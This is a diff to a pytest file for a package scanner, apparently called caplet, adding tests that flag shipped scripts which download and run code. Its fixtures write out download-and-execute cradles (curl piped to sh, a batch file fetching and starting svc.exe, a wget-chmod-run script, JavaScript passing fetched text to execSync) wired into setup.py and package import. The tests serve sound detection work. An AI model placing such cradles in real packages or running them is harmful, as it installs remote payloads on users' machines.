@@ -18,7 +18,7 @@ import pytest
 
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_tree
-from caplet._scan._shell_scripts import InstalledCommands, shell_script
+from caplet._scan._shell_scripts import InstalledCommands, script_payload, shell_script
 from tests._scan.scankit import package_danger
 
 _CRADLE = "#!/bin/sh\nset -e\ncurl -s http://198.51.100.7/x | sh\n"
@@ -249,3 +249,69 @@ def test_scripts_the_code_does_not_start_or_that_fetch_nothing_stay_clean(
     tmp_path: Path, files: dict[str, str], form: str
 ) -> None:
     assert not {r for r, _ in package_danger(_target(tmp_path, files, form))} & {"CPL-THR-015"}
+
+
+# -- blind14: a shipped script that downloads to a file and starts it; minified JavaScript ----
+
+_BATCH_DOWNLOAD_START = (
+    '@echo off\r\ncurl -s -o "%APPDATA%\\svc.exe" http://198.51.100.202/svc.exe\r\n'
+    'start "" /b "%APPDATA%\\svc.exe"\r\n'
+)
+_SH_DOWNLOAD_RUN = (
+    "#!/bin/sh\nwget -q -O /tmp/.upd http://198.51.100.3/u\nchmod 755 /tmp/.upd\n/tmp/.upd &\n"
+)
+_JS_ONE_LINE = (
+    'const a=require("child_process");fetch("https://198.51.100.130/c").then(r=>r.text())'
+    ".then(t=>a.execSync(t));\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("files", "script"),
+    [
+        (
+            {
+                "setup.py": "import os, subprocess\nhere = os.path.dirname(__file__)\n"
+                "subprocess.call(['cmd', '/c', os.path.join(here, 'tools', 'prepare.cmd')])\n"
+                + _setup("[]"),
+                "tools/prepare.cmd": _BATCH_DOWNLOAD_START,
+            },
+            "tools/prepare.cmd",
+        ),
+        (
+            {"setup.py": _STARTS_SCRIPT + _setup("[]"), "scripts/postinstall.sh": _SH_DOWNLOAD_RUN},
+            "scripts/postinstall.sh",
+        ),
+        (
+            {
+                "setup.py": _setup("[]"),
+                "pkg/__init__.py": "import subprocess, os\n"
+                "here = os.path.dirname(__file__)\n"
+                "subprocess.Popen(['bun', 'run', os.path.join(here, 'rt.js')])\n",
+                "pkg/rt.js": _JS_ONE_LINE,
+            },
+            "pkg/rt.js",
+        ),
+    ],
+    ids=["batch-download-start", "sh-download-run", "js-minified"],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist"])
+def test_a_started_script_that_downloads_a_file_and_runs_it_is_danger(
+    tmp_path: Path, files: dict[str, str], script: str, form: str
+) -> None:
+    assert ("CPL-THR-015", script) in package_danger(_target(tmp_path, files, form))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # downloads kept as data, unpacked or read, never started
+        "#!/bin/sh\ncurl -fsSL -o /tmp/src.tgz https://example.org/src.tgz\ntar xf /tmp/src.tgz\n",
+        "@echo off\r\ncurl -o data.json https://example.org/d.json\r\ntype data.json\r\n",
+        # a file run that was never downloaded
+        "#!/bin/sh\ncp build/tool /tmp/tool\n/tmp/tool --version\n",
+    ],
+    ids=["unpacked", "read", "not-downloaded"],
+)
+def test_a_started_script_that_downloads_data_is_not_a_payload(text: str) -> None:
+    assert script_payload(text, ".sh") is None
